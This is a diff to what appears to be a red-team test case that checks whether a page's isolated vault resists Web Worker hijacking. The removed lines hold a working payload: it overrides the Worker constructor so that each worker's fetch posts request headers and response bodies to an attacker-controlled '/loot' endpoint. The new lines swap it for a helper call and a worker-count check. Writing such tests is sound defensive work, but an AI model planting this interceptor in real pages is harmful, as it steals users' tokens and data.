@@ -3,23 +3,12 @@
 export default {
   row: "patch-before",
   expected: ["wins", "loses"],
-  before: (redteam) => {
-    const spy = (script, evil) => `
-      const own = self.fetch;
-      const home = (text) => own("${evil}/loot", { method: "POST", mode: "no-cors", body: text });
-      self.fetch = async (url, init) => {
-        home([...new Headers(init?.headers)].join());
-        const response = await own.call(self, url, init);
-        response.clone().text().then(home);
-        return response;
-      };
-      importScripts("${script}");`;
-    const { Worker } = globalThis;
-    globalThis.Worker = class extends Worker {
-      constructor(script, options) {
-        const blob = new Blob([spy(String(script), redteam.evil)], { type: "text/javascript" });
-        super(URL.createObjectURL(blob), options);
-      }
-    };
+  before: (redteam) => void redteam.replaceWorker(),
+  after: (_, redteam) => {
+    const bySdk = redteam.started ?? 0;
+    new Worker("/nothing.js").terminate();
+    return { bySdk, now: redteam.started };
   },
+  // The isolated vault starts no worker in the page; the attacker's own is one of theirs.
+  reached: ({ brought }) => brought.now === brought.bySdk + 1,
 };
